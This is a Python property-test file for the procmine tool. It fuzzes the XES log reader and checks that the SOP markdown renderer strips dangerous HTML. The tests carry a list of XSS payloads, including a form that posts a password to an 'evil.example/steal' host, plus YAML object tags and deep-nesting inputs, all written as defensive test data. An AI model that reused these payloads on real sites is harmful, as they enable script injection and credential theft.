"""Property tests (hypothesis) over the XES reader and the SOP parser (issue 12).

Whatever an XES file holds (well-formed or broken XML, attributes of every XES type, missing
keys, odd characters and encodings, truncated gzip) an ingest ends with every event loaded or
quarantined (or merged by lifecycle pairing), or with a clear refusal (ProcmineError), never
another exception. Whatever an SOP file holds (random front matter, markdown, hostile HTML) the
parser gives an SOP or LintIssues (SopError when parsing must succeed), the lint a report, and
the rendered body never carries scripts, styles, forms or event handlers."""

from __future__ import annotations

import gzip
import re
import tempfile
from datetime import datetime
from pathlib import Path
from typing import Any
from xml.sax.saxutils import quoteattr

import yaml
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st

from procmine.core.baseline import load_baseline
from procmine.core.errors import ProcmineError
from procmine.ingest.run import ingest_log
from procmine.io import xes
from procmine.io.xes import read_xes_table
from procmine.sop.document import LintIssue, Sop, SopError, parse_sop, parse_with_issues, render_sop
from procmine.sop.lint import lint_sops
from procmine.store.event_store import EventStore

SETTINGS = settings(max_examples=40, deadline=None,
                    suppress_health_check=[HealthCheck.too_slow])
NS = ' xmlns="http://www.xes-standard.org/"'

# -- XES -----------------------------------------------------------------------------------------

_TYPES = st.sampled_from(["string", "date", "int", "float", "boolean", "id", "list", "container",
                          "unknown"])
_KEYS = st.one_of(st.sampled_from(["concept:name", "time:timestamp", "org:resource",
                                   "lifecycle:transition", "case:concept:name", "org:group",
                                   "amount", "_row"]),
                  st.text(st.sampled_from(list("ab:_-点 ")), min_size=1, max_size=6))
_VALUES = st.one_of(
    st.sampled_from(["2026-10-01T09:00:00.000+08:00", "2026-10-01T09:00:30", "9999-12-31T00:00:00",
                     "not a date", "start", "complete", "schedule", "0101", "true", "1.5e3", "",
                     "=1+1", "<script>", "a\"b", "x'y", "&amp;", "点钞", "tab\there", "\x85"]),
    st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=8),
)


# What may stand between elements: nothing, space, comments, processing instructions, CDATA,
# text with quotes (the fast reader hands such files to the general one), character references.
_NOISE = st.sampled_from([""] * 10 + [
    "\n  ", "<!-- c -->", "<?pi x?>", "<![CDATA[a\"b]]>", 'text "quoted"', "&#x41;", "&lt;",
    "&#0;", "&undefined;", "<x/>", '<string key="stray" value="v"/>', "</event>", "<event>"])


def _quoted(value: str, single: bool) -> str:
    if single:
        return "'" + value.replace("&", "&amp;").replace("<", "&lt;").replace("'", "&apos;") + "'"
    return quoteattr(value)


@st.composite
def _attribute(draw: st.DrawFn) -> str:
    kind = draw(_TYPES)
    parts = [kind]
    single = not draw(st.integers(0, 6))  # single-quoted key and value: the general reader
    if draw(st.booleans()) or kind == "string":
        parts.append(f"key={_quoted(draw(_KEYS), single)}")  # sometimes no key at all
    if draw(st.integers(0, 4)):
        parts.append(f"value={_quoted(draw(_VALUES), single)}")
    if kind in ("list", "container") and draw(st.booleans()):
        return f"<{' '.join(parts)}><string key=\"inner\" value=\"v\"/></{kind}>"
    return f"<{' '.join(parts)}/>"


_TIMES = st.one_of(
    st.datetimes(datetime(2024, 1, 1), datetime(2026, 1, 1)).map(lambda t: t.isoformat()),
    st.datetimes(datetime(2024, 1, 1), datetime(2026, 1, 1)).map(lambda t: t.isoformat()),
    st.datetimes().map(lambda t: t.isoformat()),
    st.sampled_from(["2026-10-01T09:00:00.000+08:00", "2026-10-01T09:00:30Z", "2026-10-01",
                     "9999-12-31T23:59:59", "1970-01-01T00:00:00", "2026-13-01T00:00:00", ""]),
)


@st.composite
def _standard_event(draw: st.DrawFn) -> str:
    """An event with the keys an ingest maps (some of them), then random extra attributes."""
    keys = [f'<string key="concept:name" value={quoteattr(draw(_VALUES))}/>',
            f'<date key="time:timestamp" value={quoteattr(draw(_TIMES))}/>',
            f'<string key="org:resource" value={quoteattr(draw(_VALUES))}/>',
            '<string key="lifecycle:transition" value='
            f'{quoteattr(draw(st.sampled_from(["complete", "start", "COMPLETE", "x"])))}/>']
    kept = [k for k, keep in zip(keys, draw(st.lists(st.booleans(), min_size=4, max_size=4)),
                                 strict=True) if keep or k in keys[:2]]
    return "".join(kept + draw(st.lists(_attribute(), max_size=2)))


@st.composite
def _xes_text(draw: st.DrawFn, decl: str | None = None) -> str:
    traces = []
    for _ in range(draw(st.integers(0, 3)) or draw(st.integers(0, 3))):
        attrs = "".join(draw(st.lists(_attribute(), max_size=3)))
        if draw(st.integers(0, 5)):
            attrs = f'<string key="concept:name" value={quoteattr(draw(_VALUES))}/>' + attrs
        content = st.one_of(_standard_event(), _standard_event(), _standard_event(),
                            st.lists(_attribute(), max_size=5).map("".join))
        events = "".join(f"<event>{draw(content)}</event>{draw(_NOISE)}"
                         for _ in range(draw(st.integers(0, 4))))
        traces.append(f"<trace>{attrs}{draw(_NOISE)}{events}</trace>")
    loose = "".join(f"<event>{draw(_attribute())}</event>" for _ in range(draw(st.integers(0, 1))))
    decl = decl if decl is not None else draw(st.sampled_from([
        "", '<?xml version="1.0"?>\n', '<?xml version="1.0"?>\n',
        '<?xml version="1.0" encoding="UTF-8"?>\n', "<?xml version='1.0' encoding='gb18030'?>\n",
        '<?xml version="1.0" encoding="latin-1"?>\n',
        '<?xml version="1.0" encoding="no-such-codec"?>\n', '<!DOCTYPE log [<!ENTITY e "x">]>\n']))
    root = draw(st.sampled_from(["log"] * 5 + ["notlog"]))
    ns = draw(st.sampled_from([NS, ""]))
    global_ = draw(st.sampled_from(["", '<global scope="event"><string key="concept:name" '
                                    'value="__INVALID__"/></global>']))
    return f"{decl}<{root}{ns}>{global_}{''.join(traces)}{loose}</{root}>"


@st.composite
def _xes_bytes(draw: st.DrawFn) -> tuple[bytes, str]:
    """The bytes of a file and its name: encoded, broken, gzip-compressed or truncated."""
    encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-8-sig", "utf-16", "gb18030"]))
    declared = {"utf-8": "", "utf-8-sig": '<?xml version="1.0" encoding="utf-8"?>',
                "utf-16": '<?xml version="1.0" encoding="UTF-16"?>',
                "gb18030": '<?xml version="1.0" encoding="GB18030"?>'}[encoding]
    text = draw(_xes_text(declared if draw(st.integers(0, 2)) else None))
    data = text.encode(encoding, errors="replace")
    damage = draw(st.sampled_from(["none", "none", "none", "none", "cut", "byte"]))
    if damage == "cut" and data:
        data = data[:draw(st.integers(0, len(data) - 1))]
    elif damage == "byte" and data:
        at = draw(st.integers(0, len(data) - 1))
        data = data[:at] + bytes([draw(st.integers(0, 255))]) + data[at + 1:]
    if draw(st.booleans()):
        data = gzip.compress(data)
        if not draw(st.integers(0, 3)):
            data = data[:draw(st.integers(0, len(data) - 1))]  # truncated gzip
        return data, "log.xes.gz"
    return data, "log.xes"


@SETTINGS
@given(_xes_bytes())
@example((b"", "log.xes"))
@example((gzip.compress(b"<log><trace><event/></trace></log>")[:20], "log.xes.gz"))
@example((b"\x1f\x8b", "log.xes"))
@example((b'<log><trace><event><string key="a" value="\x0b"/></event></trace></log>', "log.xes"))
def test_any_xes_file_is_read_or_refused_clearly(file: tuple[bytes, str]) -> None:
    data, name = file
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / name
        path.write_bytes(data)
        try:
            result = read_xes_table(path)
        except ProcmineError as exc:
            event("refused")
            assert str(path) in str(exc)
            return
        event(f"read {min(result.events, 3)} events")
        assert result.table.num_rows == result.events
        assert result.table.column("_row").to_pylist() == list(range(1, result.events + 1))
        assert result.table.column_names[0] == "_row"
        # the general reader (used for files the fast one declines) reads the same table
        general = xes._read_slow(path, None)
        assert (general.traces, general.events) == (result.traces, result.events)
        assert general.table.equals(result.table), (general.table, result.table)


@SETTINGS
@given(_xes_bytes())
def test_any_xes_file_is_loaded_or_quarantined_or_refused_clearly(
        file: tuple[bytes, str]) -> None:
    data, name = file
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / name
        path.write_bytes(data)
        store = EventStore(Path(tmp) / "ws")
        try:
            report = ingest_log(store, path)
        except ProcmineError as exc:
            event("refused")
            assert str(exc)
            assert store.is_empty()
            return
        event("quarantined" if report.quarantined else "loaded")
        assert report.reconciles
        assert report.read == report.loaded + report.quarantined + report.merged_by_pairing
        assert report.read == read_xes_table(path).events
        assert len(store.read_events()) == report.loaded
        assert sum(report.reasons.values()) == report.quarantined


# -- SOP -----------------------------------------------------------------------------------------

_HOSTILE = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//x.js></SCRIPT>", "<style>*{display:none}</style>",
    '<form action="https://evil.example/steal" method="post"><input name="pw"></form>',
    '<img src=x onerror="alert(1)">', '<a href="javascript:alert(1)" onclick="x()">go</a>',
    '<div style="position:fixed" onmouseover=alert(1)>hover</div>', "<iframe src=//x></iframe>",
    "<svg onload=alert(1)>", "<<script>script>alert(1)<</script>/script>",
    '<p title="x" ONCLICK="y">z</p>', "<scr<script>ipt>", "[x](javascript:alert(1))",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', "<!-- <script> -->",
    '<a href="#" onfocus=alert(1) autofocus>a</a>', "`<script>`", "```\n<style>\n```",
]
_MD = st.one_of(
    st.sampled_from(_HOSTILE),
    st.sampled_from(["## 1. Count {#count}", "### 2. Verify {#verify_identity}", "- item",
                     "1. first", "| a | b |\n|---|---|\n| 1 | 2 |", "[link](SOP-P17.md#count)",
                     "[anchor](#nowhere)", "**bold** _em_", "> quote", "---", "{#x}", "",
                     "身份核验 Verify identity", "".join("  " * i + "- a\n" for i in range(400))]),
    st.text(st.sampled_from(list("<>/=\"' #[](){}*_-|!`&;:aonsy\n")), max_size=30),
)
_FORBIDDEN = re.compile(r"<\s*(script|style|form)\b|\son[a-z]+\s*=", re.IGNORECASE)


@SETTINGS
@given(st.lists(_MD, max_size=8))
@example(['<p title="x" ONCLICK="y">z</p>'])
@example(["<scr<script>ipt>alert(1)</script>"])
def test_rendered_sop_never_carries_scripts_styles_forms_or_handlers(parts: list[str]) -> None:
    html = render_sop("\n\n".join(parts))
    assert _FORBIDDEN.search(html) is None, html
    assert "javascript:" not in html.lower()


_SCALAR: st.SearchStrategy[Any] = st.one_of(
    st.none(), st.booleans(), st.integers(-3, 10_000), st.floats(allow_nan=True),
    st.text(max_size=6), st.dates().map(str),
    st.sampled_from(["SOP-P17", "SOP-", "P17", "P18", "draft", "approved", "retired",
                     "accounting-and-cash", "2.1", "x.y", "2026-10-01", "verify_identity",
                     "Call number", "<script>"]),
)
_VALUE: st.SearchStrategy[Any] = st.recursive(
    _SCALAR, lambda inner: st.one_of(st.lists(inner, max_size=3),
                                     st.dictionaries(st.text(max_size=6), inner, max_size=3)),
    max_leaves=8)
_STEP = st.fixed_dictionaries(
    {}, optional={"id": _VALUE, "activity": _VALUE, "standard_seconds": _VALUE,
                  "controls": _VALUE, "conditional": _VALUE, "when": _VALUE, "types": _VALUE})
_FRONT = st.fixed_dictionaries(
    {}, optional={"id": _VALUE, "title": _VALUE, "business_types": _VALUE,
                  "owner_group": _VALUE, "version": _VALUE, "status": _VALUE,
                  "effective": _VALUE, "review_due": _VALUE, "author": _VALUE,
                  "approved_by": _VALUE, "regulations": _VALUE, "adoption": _VALUE,
                  "steps": st.one_of(_VALUE, st.lists(_STEP, max_size=3)), "extra": _VALUE})
_GOOD_FRONT = {
    "id": "SOP-P17", "title": {"zh": "叫号", "en": "Call number"}, "business_types": ["P17"],
    "owner_group": "accounting-and-cash", "version": "1.0", "status": "draft",
    "effective": "2026-10-01",
    "steps": [{"id": "call", "activity": "Call number", "standard_seconds": 120}],
}


@st.composite
def _sop_text(draw: st.DrawFn) -> str:
    front: dict[str, Any] = draw(st.one_of(_FRONT, st.just(_GOOD_FRONT),
                                           _FRONT.map(lambda f: {**_GOOD_FRONT, **f})))
    body = "\n\n".join(draw(st.lists(_MD, max_size=6)))
    if "steps" in front and draw(st.booleans()):
        body = "### 1. Call {#call}\n\n" + body
    try:
        yaml_text = yaml.safe_dump(front, allow_unicode=True)
    except yaml.YAMLError:
        yaml_text = "{}\n"
    raw = draw(st.sampled_from(["", "", "id: [unclosed\n", "&a [*a]\n", "a: !!python/object {}\n",
                                "? complex\n", "\t- tab\n", "key: value: nested\n",
                                "deep: " + "[" * 3000 + "]" * 3000 + "\n"]))
    opening = draw(st.sampled_from(["---\n", "---\n", "---\r\n", "", "--- \n"]))
    closing = draw(st.sampled_from(["---\n", "---\n", "", "...\n"]))
    return f"{opening}{yaml_text}{raw}{closing}{body}\n"


def _check_issues(issues: list[LintIssue]) -> None:
    for issue in issues:
        assert isinstance(issue, LintIssue)
        assert issue.severity in ("error", "warning")
        assert isinstance(issue.line, int) and issue.line >= 0
        assert str(issue)


@SETTINGS
@given(_sop_text())
@example("---\ntitle: " + "[" * 5000 + "]" * 5000 + "\n---\n")  # RecursionError: an issue now
def test_any_sop_text_parses_or_gives_lint_issues(text: str) -> None:
    sop, issues = parse_with_issues(text, "SOP-P17.md")
    _check_issues(issues)
    errors = [i for i in issues if i.severity == "error"]
    event("parsed" if sop is not None and not errors else "issues")
    try:
        parsed = parse_sop(text, "SOP-P17.md")
    except SopError as exc:
        assert sop is None or errors
        assert "SOP-P17.md" in str(exc)
        return
    assert isinstance(parsed, Sop) and sop is not None and not errors
    assert _FORBIDDEN.search(render_sop(parsed.body)) is None


BASELINE = load_baseline()


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(_sop_text(), st.sampled_from(["utf-8", "gb18030", "utf-16"])),
                min_size=1, max_size=3))
def test_any_sop_folder_gives_a_lint_report(files: list[tuple[str, str]]) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        for n, (text, encoding) in enumerate(files):
            (Path(tmp) / f"SOP-{n}.md").write_bytes(text.encode(encoding, errors="replace"))
        report = lint_sops(tmp, BASELINE)
    unreadable = [i for i in report.issues if i.field == "file"]
    assert report.files + len(unreadable) == len(files)  # a file not in UTF-8 is an issue
    _check_issues(list(report.issues))
    assert report.ok == (not report.errors)
    assert len(report.sops) <= len(files)


# -- regressions found by the properties above ---------------------------------------------------

_GOOD_TEXT = ("---\n" + yaml.safe_dump(_GOOD_FRONT, allow_unicode=True)
              + "---\n### 1. Call {#call}\n")


def test_front_matter_nested_too_deeply_is_a_lint_issue() -> None:
    """PyYAML composes nested flow lists recursively: 5,000 levels raised RecursionError."""
    text = "---\ntitle: " + "[" * 5000 + "]" * 5000 + "\n---\n"
    sop, issues = parse_with_issues(text, "SOP-P17.md")
    assert sop is None
    assert [(i.line, i.field) for i in issues] == [(2, "front matter")]
    assert "nested too deeply" in issues[0].message


def test_a_body_nested_too_deeply_for_markdown_is_a_lint_issue(tmp_path: Path) -> None:
    """Markdown recurses into nested lists: 500 levels raised RecursionError in the lint."""
    body = "".join("  " * i + "- a\n" for i in range(500))
    text = _GOOD_TEXT + body
    sop, issues = parse_with_issues(text, "SOP-P17.md")
    assert sop is not None
    assert [(i.severity, i.field) for i in issues] == [("error", "body")]
    assert "does not render" in issues[0].message
    (tmp_path / "SOP-P17.md").write_text(text, encoding="utf-8")
    report = lint_sops(tmp_path, BASELINE)
    assert report.files == 1 and not report.ok
    assert any("does not render" in i.message for i in report.issues)
